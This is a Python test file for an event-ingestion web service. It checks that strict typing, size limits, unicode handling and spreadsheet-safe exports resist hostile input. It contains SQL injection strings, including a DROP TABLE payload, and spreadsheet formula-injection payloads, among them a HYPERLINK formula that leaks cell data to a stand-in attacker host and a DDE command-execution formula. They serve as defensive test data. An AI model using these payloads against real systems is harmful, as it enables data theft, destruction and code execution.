"""Hostile input over real HTTP: limits, strict types, unicode, injection; spreadsheet-safe exports."""
from __future__ import annotations

import base64
import hashlib
import io
import json
from urllib.parse import quote

import httpx
import pytest

from ingest.export import neutralise, to_csv, to_xlsx
from tests.conftest import Server, golden


@pytest.fixture(scope="module")
def srv(tmp_path_factory):
    server = Server(tmp_path_factory.mktemp("hostile") / "data").start()
    assert server.post("/v1/events", json=golden("enterprise.registered")).status_code == 200
    yield server
    server.stop()


def raw_post(srv: Server, body: bytes) -> httpx.Response:
    return srv.post("/v1/events", content=body, headers={"content-type": "application/json"})


def sample(**changes) -> dict:
    doc = golden("sampling.result")
    for path, value in changes.items():
        target = doc
        parts = path.split("__")
        for part in parts[:-1]:
            target = target[int(part)] if part.isdigit() else target[part]
        last = parts[-1]
        target[int(last) if last.isdigit() else last] = value
    return doc


def rejected_field(resp: httpx.Response) -> set[str]:
    assert resp.status_code == 422, resp.text
    assert all(e["dead_letter_id"] for e in resp.json()["errors"])
    return {e["field"] for e in resp.json()["errors"]}


# --------------------------------------------------------------------------- strict types


@pytest.mark.parametrize("literal", [b"1e999", b"-1e999", b'"1e999"', b'"59"', b'"NaN"', b"true", b"1" + b"0" * 400])
def test_no_coercion_into_numbers(srv, literal):
    body = json.dumps(sample(payload__items__0__values=["__X__"])).encode().replace(b'"__X__"', literal)
    assert "payload.items[0].values[0]" in rejected_field(raw_post(srv, body))


@pytest.mark.parametrize("literal", [b"NaN", b"Infinity", b"-Infinity"])
def test_nan_tokens_are_not_json(srv, literal):
    body = json.dumps(sample(payload__items__0__values=["__X__"])).encode().replace(b'"__X__"', literal)
    resp = raw_post(srv, body)
    assert rejected_field(resp) == {""}
    assert resp.json()["errors"][0]["type"] == "json_invalid"


@pytest.mark.parametrize("literal", [b'"0.5"', b"1e999", b"true", b"-1"])
def test_detection_limit_is_a_strict_finite_number(srv, literal):
    doc = sample()
    doc["payload"]["items"][0]["detection_limit"] = "__X__"
    body = json.dumps(doc).encode().replace(b'"__X__"', literal)
    assert "payload.items[0].detection_limit" in rejected_field(raw_post(srv, body))


def test_unknown_fields_are_rejected_at_every_level(srv):
    top = sample()
    top["priority"] = "high"
    nested = sample()
    nested["payload"]["items"][0]["comment"] = "x"
    source = sample()
    source["source"]["is_admin"] = True
    resp = srv.post("/v1/events", json=[top, nested, source])
    assert rejected_field(resp) == {"priority", "payload.items[0].comment", "source.is_admin"}


def test_text_length_limits(srv):
    long_name = sample(payload__product="桶" * 201)
    long_text = golden("complaint.received")
    long_text["payload"]["text"] = "x" * 4001
    too_many_items = sample()
    too_many_items["payload"]["items"] = [dict(too_many_items["payload"]["items"][0], item_code=f"i{n:03d}") for n in range(201)]
    resp = srv.post("/v1/events", json=[long_name, long_text, too_many_items])
    assert rejected_field(resp) == {"payload.product", "payload.text", "payload.items"}


# --------------------------------------------------------------------------- sizes


def test_batch_size_limit(srv):
    docs = [golden("clock.tick")] * 1001
    resp = srv.post("/v1/events", json=docs)
    assert resp.status_code == 422
    assert resp.json()["errors"][0]["type"] == "batch_too_large"


def test_body_size_limit_without_content_length(srv):
    def chunks():
        for _ in range(10):
            yield b" " * (1024 * 1024)

    resp = srv.post("/v1/events", content=chunks(), headers={"content-type": "application/json"}, timeout=60)
    assert resp.status_code == 413


def test_deep_nesting_is_a_422_not_a_crash(srv):
    for body in (b"[" * 100_000 + b"]" * 100_000, b'{"a":' * 50_000 + b"1" + b"}" * 50_000):
        resp = raw_post(srv, body)
        assert resp.status_code == 422, resp.text[:200]
        assert resp.json()["errors"][0]["type"] == "json_invalid"
    deep = sample()
    deep["payload"]["remarks"] = json.loads("[" * 900 + "]" * 900)
    assert raw_post(srv, json.dumps(deep).encode()).status_code == 422
    assert srv.get("/healthz").status_code == 200


# --------------------------------------------------------------------------- unicode


def test_unicode_is_kept_exactly(srv):
    doc = golden("complaint.received")
    doc["event_id"] = "6f1c2a3b-0000-4000-8000-00000000c0de"
    doc["payload"]["complaint_id"] = "TS-ünï-😀"
    doc["payload"]["text"] = "水里有异物 🦠；Ａｌｅｒｔ；עברית；e\u0301；\u200b零宽；\u0000NUL"
    resp = srv.post("/v1/events", json=doc)
    assert resp.status_code == 200, resp.text
    complaint = next(c for c in srv.get("/v1/enterprises/E-330110-001").json()["complaints"] if c["complaint_id"] == "TS-ünï-😀")
    # (but for its format characters, which the door takes out of a complaint: a zero-width space shows nothing,
    # a bidi control reorders what a supervisor reads; tests/test_security_door.py)
    assert complaint["text"] == doc["payload"]["text"].replace("\u200b", "")


def dead_letter_of(srv: Server, resp: httpx.Response) -> dict:
    """The one dead letter a 422 answer names, read back by its id."""
    assert resp.status_code == 422, resp.text
    (letter_id,) = {e["dead_letter_id"] for e in resp.json()["errors"]}
    letter = srv.get(f"/v1/dead-letters/{letter_id}")
    assert letter.status_code == 200, letter.text
    assert letter.json()["dead_letter_id"] == letter_id
    return letter.json()


def raw_bytes(letter: dict) -> bytes:
    return base64.b64decode(letter["raw"], validate=True) if letter["raw_encoding"] == "base64" else letter["raw"].encode("utf-8")


def test_lone_surrogates_and_invalid_utf8_are_dead_lettered(srv):
    doc = golden("complaint.received")
    doc["payload"]["text"] = "__S__"
    # in a batch: the element's own bytes are kept (ASCII-escaped JSON: UTF-8 cannot carry a lone surrogate)
    body = json.dumps([doc]).encode().replace(b"__S__", b"\\ud800")
    resp = raw_post(srv, body)
    assert rejected_field(resp) == {"payload.text"}
    letter = dead_letter_of(srv, resp)
    assert letter["raw_encoding"] == "utf-8"
    assert raw_bytes(letter) == json.dumps(doc).encode().replace(b"__S__", b"\\ud800")
    # one event: the body itself
    body = json.dumps(doc).encode().replace(b"__S__", b"\\ud800")
    resp = raw_post(srv, body)
    assert rejected_field(resp) == {"payload.text"}
    assert raw_bytes(dead_letter_of(srv, resp)) == body
    # not UTF-8 at all: kept as base64, byte for byte
    for body in (b'{"event_id": "\xff\xfe"}', b"[\xc3\x28]", "抽检".encode("gb18030")):
        resp = raw_post(srv, body)
        assert resp.status_code == 422 and resp.json()["errors"][0]["type"] == "body_encoding", resp.text
        letter = dead_letter_of(srv, resp)
        assert letter["raw_encoding"] == "base64"
        assert raw_bytes(letter) == body


# --------------------------------------------------------------------------- SQL


@pytest.mark.parametrize("hostile", ["E-1' OR '1'='1", "x'); DROP TABLE event_log; --", "%(limit)s", "{limit:UInt32}", "\\'; SELECT 1"])
def test_nothing_a_client_sends_reaches_sql_as_text(srv, hostile):
    # as a path parameter and a query parameter
    assert srv.get("/v1/enterprises/" + quote(hostile, safe="")).status_code == 404
    assert srv.get("/v1/dead-letters", params={"limit": hostile}).status_code == 422
    # inside an event: refused by the enterprise_id pattern, kept verbatim in dead letters
    doc = golden("complaint.received")
    doc["enterprise_id"] = hostile
    resp = srv.post("/v1/events", json=doc)
    assert "enterprise_id" in rejected_field(resp)
    letter = dead_letter_of(srv, resp)
    assert letter["raw_encoding"] == "utf-8" and raw_bytes(letter) == resp.request.content
    # inside text that is accepted: stored and read back verbatim
    doc = golden("complaint.received")
    doc["event_id"] = "00000000-0000-4000-8000-" + hashlib.sha256(hostile.encode()).hexdigest()[:12]
    doc["payload"]["complaint_id"] = hostile
    assert srv.post("/v1/events", json=doc).status_code == 200
    complaints = srv.get("/v1/enterprises/E-330110-001").json()["complaints"]
    assert [c["complaint_id"] for c in complaints if c["complaint_id"] == hostile] == [hostile]
    assert srv.get("/v1/audit", params={"action": hostile}).json() == []


# --------------------------------------------------------------------------- exports


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "＝1+1", "=cmd|' /C calc'!A0"]


def test_neutralise():
    for text in FORMULAS:
        assert neutralise(text) == "'" + text
    assert neutralise("普通文本") == "普通文本"
    assert neutralise(-3) == -3 and neutralise(1.5) == 1.5  # numbers stay numbers
    assert neutralise(None) == "" and neutralise(True) == "true"
    assert neutralise({"a": "=1"}) == '{"a": "=1"}'


def test_csv_and_xlsx_exports_carry_no_formulas():
    import csv

    from openpyxl import load_workbook

    rows = [{"text": t, "n": i} for i, t in enumerate(FORMULAS)] + [{"text": "\ud800 bad \x07 ctrl", "n": -1}]
    got = list(csv.reader(io.StringIO(to_csv(rows, ["text", "n"]).decode("utf-8-sig"))))
    assert got[0] == ["text", "n"]
    assert all(r[0].startswith("'") for r in got[1:-1])
    book = load_workbook(io.BytesIO(to_xlsx(rows, ["text", "n"])))
    cells = list(book.active.iter_rows(min_row=2, values_only=False))
    assert all(c[0].data_type == "s" and c[0].value.startswith("'") for c in cells[:-1])
    assert cells[0][1].data_type == "n"


def test_dead_letters_export_over_http_is_neutralised(srv):
    doc = golden("complaint.received")
    doc["payload"]["text"] = FORMULAS[0]
    doc["payload"]["oops"] = "=1+1"  # unknown field: rejected, kept in dead letters
    assert srv.post("/v1/events", json=doc).status_code == 422
    resp = srv.get("/v1/dead-letters", params={"format": "csv"})
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    import csv

    csv.field_size_limit(64 * 1024 * 1024)  # the deep-nesting letters above are large
    rows = list(csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig"))))
    assert rows and all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    xlsx = srv.get("/v1/dead-letters", params={"format": "xlsx"})
    assert xlsx.status_code == 200 and xlsx.content[:2] == b"PK"
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(xlsx.content))
    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)
    ents = srv.get("/v1/enterprises", params={"format": "xlsx"})
    assert ents.status_code == 200
    bad = srv.get("/v1/enterprises", params={"format": "pdf"})
    assert bad.status_code == 422
    (error,) = bad.json()["errors"]  # the parameter and the reason, in Chinese too
    assert error["field"] == "query.format" and error["reason_zh"].startswith("取值不在允许范围内，应为 'json'")
    # and the API description says so
    import jsonschema

    declared = srv.get("/openapi.json").json()["components"]["schemas"]["HTTPValidationError"]
    jsonschema.validate(bad.json(), declared)
